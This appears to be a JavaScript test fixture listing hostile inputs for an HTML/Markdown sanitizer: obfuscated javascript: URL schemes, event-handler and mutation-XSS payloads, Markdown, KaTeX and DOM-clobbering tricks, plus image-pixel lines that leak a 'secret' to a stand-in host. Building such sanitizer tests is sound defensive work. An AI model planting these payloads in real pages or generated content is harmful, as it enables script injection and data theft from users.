/**
 * Hostile text: what must neither run nor load anything, wherever it turns up. Shapes from the OWASP filter
 * evasion sheet, DOMPurify's test cases, and what Markdown adds, each in the ways a scheme can be disguised.
 */

const RUN = "globalThis.hacked=1";

const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "\u0001javascript:",
  "java\tscript:",
  "java\nscript:",
  "javascript&colon;",
  "javascript&#58;",
  "&#106;avascript:",
  "&#x6A&#x61vascript:",
  "java&Tab;script:",
  "java&NewLine;script:",
  "%6Aavascript:",
  "\u00a0javascript:",
  "\u200bjavascript:",
  "\ufeffjavascript:",
  "vbscript:",
  "data:text/html,<script>",
  "data:text/html;base64,PHNjcmlwdD4=",
  "data:image/svg+xml,<svg onload=",
  "data:application/xhtml+xml,",
  "blob:https://example.org/",
  "file:///etc/passwd",
  "filesystem:https://example.org/",
  "view-source:javascript:",
  "feed:javascript:",
  "jar:javascript:",
  "//example.org/",
  "\\\\example.org/",
];

const LINKS = SCHEMES.flatMap((scheme) => [
  `[click](${scheme}${RUN})`,
  `[click](<${scheme}${RUN}>)`,
  `<${scheme}${RUN}>`,
  `[click][1]\n\n[1]: ${scheme}${RUN}`,
  `![image](${scheme}${RUN})`,
]);

const ELEMENTS = [
  "script", "img src=x", "svg", "svg/", "body", "iframe", "object data=x", "embed src=x", "video src=x", "audio src=x",
  "input autofocus", "details open", "marquee", "math", "style", "link rel=stylesheet href=//example.org",
  "meta http-equiv=refresh content='0;url=//example.org'", "base href=//example.org", "form action=//example.org",
  "button formaction=//example.org", "isindex", "template", "noscript", "textarea", "select", "keygen autofocus",
  "a href=//example.org", "animate", "set", "foreignObject", "picture><source srcset=//example.org/x", "table background=//example.org",
  "frameset", "applet", "layer", "bgsound src=//example.org", "x:script", "svg><animate", "div style=background:url(//example.org)",
].flatMap((element) => [
  `<${element} onload=${RUN} onerror=${RUN} onfocus=${RUN} ontoggle=${RUN} onbegin=${RUN} onstart=${RUN}>`,
  `<${element} onerror="${RUN}"></${element.split(/[ />]/)[0]}>`,
]);

const MARKUP = [
  `<script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<SCRIPT SRC=//example.org/x.js></SCRIPT>`,
  `<<script>${RUN}//<</script>`,
  `<img """><script>${RUN}</script>">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<a href="x" onclick=${RUN}>click</a>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `<style>@import '//example.org/x.css'; * { background: url(//example.org/y) }</style>`,
  `<div style="width: expression(${RUN})">`,
  `<img src="//example.org/pixel.png?secret">`,
  `<img srcset="//example.org/pixel.png 1x">`,
  `<iframe srcdoc="<script>parent.hacked=1</script>">`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x">`,
  `<svg><a xlink:href="javascript:${RUN}"><text>click</text></a></svg>`,
  `<math href="javascript:${RUN}">click</math>`,
  `<a href="java&#x0A;script:${RUN}">click</a>`,
  `<input name=attributes><input name=innerHTML>`,
  `<img name=body><form id=location>`,
];

const MARKDOWN = [
  `[a](javascript:${RUN} "title")`,
  `[a]("onclick=${RUN})`,
  `[a](https://example.org "\\" onmouseover=${RUN} x=\\"")`,
  `[a](https://example.org" onmouseover="${RUN})`,
  `![a](x" onerror="${RUN})`,
  `![a" onerror="${RUN}](x)`,
  `![pixel](https://example.org/pixel.png?secret)`,
  `![pixel][p]\n\n[p]: https://example.org/pixel.png`,
  `[![pixel](https://example.org/pixel.png)](javascript:${RUN})`,
  `\`\`\`"><script>${RUN}</script>\ncode\n\`\`\``,
  `\`\`\`js onload=${RUN}\n<img src=x onerror=${RUN}>\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``,
  `    <img src=x onerror=${RUN}>`,
  `| <img src=x onerror=${RUN}> | [a](javascript:${RUN}) |\n|---|---|\n| <script>${RUN}</script> | ![x](//example.org/x) |`,
  `# <img src=x onerror=${RUN}>`,
  `> <script>${RUN}</script>`,
  `- <svg onload=${RUN}>`,
  `**<img src=x onerror=${RUN}>**`,
  `[ref]: javascript:${RUN} "<img src=x onerror=${RUN}>"\n\n[ref]`,
  `https://example.org/<script>${RUN}</script>`,
  `www.example.org"onclick="${RUN}`,
  `mailto:x@example.org?body=<script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `$\\href{javascript:${RUN}}{x}$`,
  `$$\\url{javascript:${RUN}} \\includegraphics{//example.org/x.png}$$`,
  `$\\htmlData{onclick=${RUN}}{x}$ $\\class{x" onclick="${RUN}}{y}$`,
  `<b>*a*<img src=x onerror=${RUN}></b>`,
  `\u202e<script>${RUN}</script>`,
  `\u0000<img src=x onerror=${RUN}>`,
];

export const HOSTILE: readonly string[] = [...LINKS, ...ELEMENTS, ...MARKUP, ...MARKDOWN];
